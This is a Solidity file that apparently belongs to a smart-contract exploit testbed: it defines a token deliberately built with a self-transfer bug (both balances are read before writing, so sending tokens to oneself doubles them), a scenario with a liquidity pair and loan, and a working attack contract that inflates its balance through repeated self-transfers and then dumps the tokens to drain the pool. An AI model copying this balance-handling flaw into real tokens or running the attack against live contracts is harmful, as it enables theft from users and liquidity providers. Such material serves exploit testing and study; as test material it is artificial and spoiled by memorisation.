// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity 0.8.35;

import "./Common.sol";

/// Who pays himself is paid twice.
contract MirrorToken is Token {
    constructor() Token("MIRROR", 18) {}

    function _move(address from, address to, uint256 amount) internal override {
        uint256 a = balanceOf[from];
        uint256 b = balanceOf[to];
        require(a >= amount, "balance");
        balanceOf[from] = a - amount;
        balanceOf[to] = b + amount;
        emit Transfer(from, to, amount);
    }
}

contract SelfTransferScene is Scene {
    Token public usd;
    MirrorToken public mirror = new MirrorToken();
    Pair public pair;

    constructor(Bank b, address t, address s) payable Scene(b, t, s) {
        usd = _usd();
        _asset(address(mirror), "MIRROR", 18, 1e6);
        pair = Pairs.open(mirror, usd, 2_000_000e18, 2_000_000e18);
        _protect(address(mirror));
        _protect(address(pair));
        _loan(IERC20(address(usd)), 40_000e18);
        loot0 = IERC20(address(usd));
        loot1 = IERC20(address(mirror));
    }

    function enrol(address[] calldata users) external override {
        _arm(usd, users, 200_000e18, address(pair));
        _arm(mirror, users, 200_000e18, address(pair));
    }

    function menu(address who, uint256 dice) external view override returns (address, uint256, bytes memory) {
        uint256 amount = _amount(dice, 50e18, 3_000e18);
        if (dice >> 200 & 3 == 0) {
            return (address(mirror), 0, abi.encodeCall(Token.transfer, (address(uint160(dice)), amount / 50)));
        }
        (uint112 r0, uint112 r1,) = pair.getReserves();
        return (address(pair), 0, abi.encodeCall(Pair.trade, (r0 < r1, amount, who)));
    }
}

contract SelfTransferAttack is Attack {
    MirrorToken private immutable mirror;
    Pair private immutable pair;

    constructor(SelfTransferScene scene) Attack(scene) {
        (mirror, pair) = (scene.mirror(), scene.pair());
    }

    function _act(uint256, uint256, uint256 count) internal override {
        loanToken.approve(address(pair), type(uint256).max);
        mirror.approve(address(pair), type(uint256).max);
        pair.trade(false, loanToken.balanceOf(address(this)) / 2, address(this));
        for (uint256 i; i < (count == 1 ? 8 : 6); i++) mirror.transfer(address(this), mirror.balanceOf(address(this)));
        pair.trade(true, mirror.balanceOf(address(this)), address(this));
    }
}
